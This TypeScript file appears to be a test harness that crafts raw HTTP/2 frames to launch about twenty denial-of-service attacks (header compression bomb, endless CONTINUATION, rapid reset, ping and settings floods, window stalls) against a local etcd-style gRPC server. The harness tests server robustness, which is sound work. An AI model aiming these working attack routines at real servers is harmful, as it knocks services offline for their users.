/**
 * Clients that follow HTTP/2 so far as to cost a server more than themselves. Each attack runs on a
 * few connections until the server ends them or its time is over; nothing here expects an answer.
 */
import { once } from "node:events";
import { connect, type Socket } from "node:net";
import { complete } from "../../src/cli/ctl/method.js";
import { RangeRequest } from "../../src/wire/gen/rpc.js";

const preface = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const attackMs = 1_500;
const connections = 3;
const noBytes = Buffer.alloc(0);

function frame(type: number, flags: number, stream: number, payload: Buffer = noBytes): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header[3] = type;
  header[4] = flags;
  header.writeUInt32BE(stream, 5);
  return Buffer.concat([header, payload]);
}

function field(name: string, value: string): Buffer {
  const length = (text: string): Buffer => {
    const { length: bytes } = text;
    if (bytes < 127) return Buffer.from([bytes]);
    const rest = bytes - 127;
    return Buffer.from([127, (rest & 127) | 128, rest >> 7]);
  };
  const text = (value: string): Buffer => Buffer.concat([length(value), Buffer.from(value)]);
  return Buffer.concat([Buffer.from([0]), text(name), text(value)]);
}

const call = (path: string): Buffer =>
  Buffer.concat([
    field(":method", "POST"),
    field(":scheme", "http"),
    field(":path", path),
    field("content-type", "application/grpc"),
  ]);
const range = call("/etcdserverpb.KV/Range");
const put = call("/etcdserverpb.KV/Put");
const watch = call("/etcdserverpb.Watch/Watch");
const uint32 = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};
const ofMessage = (bytes: Buffer, length = bytes.length): Buffer =>
  Buffer.concat([Buffer.from([0]), uint32(length), bytes]);
const settings = frame(4, 0, 0);
const noWindow = frame(4, 0, 0, Buffer.from("000400000000", "hex"));
const wideWindow = frame(4, 0, 0, Buffer.from("00047fffffff", "hex"));

/** Gives the bytes of one round, the same or others each time; undefined: it has done its worst. */
type Attack = () => (round: number) => Buffer | undefined;

/** Sends the same many times, each on a stream of its own. */
const onStreams =
  (perRound: number, make: (stream: number) => Buffer): Attack =>
  () =>
  (round) =>
    Buffer.concat(
      Array.from({ length: perRound }, (_, at) => make(2 * (round * perRound + at) + 1)),
    );
const repeated = (bytes: Buffer, times = 1_000): Attack => {
  const all = Buffer.concat(Array.from({ length: times }, () => bytes));
  return () => () => all;
};
const after = (first: Buffer, then: Attack): Attack => {
  return () => {
    const rest = then();
    return (round) => (round === 0 ? first : rest(round - 1));
  };
};
const once_ = (bytes: Buffer): Attack => {
  return () => (round) => (round === 0 ? bytes : undefined);
};

const bombEntry = Buffer.concat([
  Buffer.from([0x40, 1]),
  Buffer.from("b"),
  field("", "x".repeat(3_900)).subarray(2),
]);
const rangeOf = (key: string): Buffer =>
  ofMessage(
    Buffer.from(RangeRequest.encode(complete(RangeRequest, { key: Buffer.from(key) })).finish()),
  );
const rangeOfBig = rangeOf("big");

export const attacks: Readonly<Record<string, Attack>> = {
  "a small block that means a huge list": after(
    Buffer.concat([settings, frame(1, 5, 1, Buffer.concat([range, bombEntry]))]),
    onStreams(10, (stream) =>
      frame(1, 5, stream + 2, Buffer.concat([range, Buffer.alloc(16_000, 0xbe)])),
    ),
  ),
  "a block without end": after(
    Buffer.concat([settings, frame(1, 0, 1, range)]),
    repeated(frame(9, 0, 1, field("a", "b".repeat(1_000)))),
  ),
  "a block of empty frames": after(
    Buffer.concat([settings, frame(1, 0, 1, range)]),
    repeated(frame(9, 0, 1)),
  ),
  "streams that never end": after(
    settings,
    onStreams(500, (stream) => frame(1, 4, stream, range)),
  ),
  "rapid reset": after(
    settings,
    onStreams(500, (stream) =>
      Buffer.concat([
        frame(1, 4, stream, range),
        frame(0, 1, stream, rangeOfBig),
        frame(3, 0, stream, uint32(8)),
      ]),
    ),
  ),
  "streams that the server must reset": after(
    settings,
    onStreams(500, (stream) =>
      Buffer.concat([
        frame(1, 4, stream, range),
        frame(0, 1, stream, rangeOfBig),
        frame(8, 0, stream, uint32(0)),
      ]),
    ),
  ),
  pings: after(settings, repeated(frame(6, 0, 0, Buffer.alloc(8)))),
  settings: repeated(settings),
  "large settings": repeated(frame(4, 0, 0, Buffer.alloc(16_380)), 10),
  "empty DATA": after(Buffer.concat([settings, frame(1, 4, 1, watch)]), repeated(frame(0, 0, 1))),
  "padding without data": after(
    Buffer.concat([settings, frame(1, 4, 1, watch)]),
    repeated(frame(0, 8, 1, Buffer.from([0]))),
  ),
  priorities: after(settings, repeated(frame(2, 0, 3, Buffer.alloc(5)))),
  "window updates of one": after(settings, repeated(frame(8, 0, 0, uint32(1)))),
  "unknown frames": after(settings, repeated(frame(0x42, 0, 0, Buffer.alloc(1_000)), 50)),
  "answers that are not read": after(
    wideWindow,
    onStreams(500, (stream) =>
      Buffer.concat([frame(1, 4, stream, range), frame(0, 1, stream, rangeOfBig)]),
    ),
  ),
  "answers for which there is no window": after(
    noWindow,
    onStreams(500, (stream) =>
      Buffer.concat([frame(1, 4, stream, range), frame(0, 1, stream, rangeOfBig)]),
    ),
  ),
  "many messages, none complete": after(
    settings,
    onStreams(50, (stream) =>
      Buffer.concat([
        frame(1, 4, stream, put),
        frame(0, 0, stream, ofMessage(Buffer.alloc(16_000), 60_000)),
        frame(0, 0, stream, Buffer.alloc(16_000)),
      ]),
    ),
  ),
  "large messages, announced and not sent": after(
    settings,
    onStreams(500, (stream) =>
      Buffer.concat([
        frame(1, 4, stream, put),
        frame(0, 0, stream, ofMessage(Buffer.alloc(10), 1_900_000)),
      ]),
    ),
  ),
  "half a frame": once_(
    Buffer.concat([settings, frame(1, 4, 1, Buffer.alloc(16_000)).subarray(0, 9_000)]),
  ),
};

/** Runs an attack on some connections; resolves when all are closed. */
export async function attack(port: number, name: string): Promise<void> {
  const make = attacks[name] as Attack;
  await Promise.all(Array.from({ length: connections }, () => attackOnce(port, make())));
}

async function attackOnce(
  port: number,
  bytesOf: (round: number) => Buffer | undefined,
): Promise<void> {
  const socket: Socket = connect(port, "127.0.0.1");
  const closed = new Promise<void>((resolve) => socket.once("close", () => resolve()));
  const timer = setTimeout(() => socket.destroy(), attackMs);
  // What the server sends is never read.
  socket.pause();
  socket.on("error", () => undefined);
  socket.write(preface);
  for (let round = 0; !socket.destroyed; round++) {
    const bytes = bytesOf(round);
    if (bytes === undefined) break;
    if (!socket.write(bytes)) await Promise.race([once(socket, "drain").catch(() => {}), closed]);
    await new Promise((resolve) => setImmediate(resolve));
  }
  await closed;
  clearTimeout(timer);
}
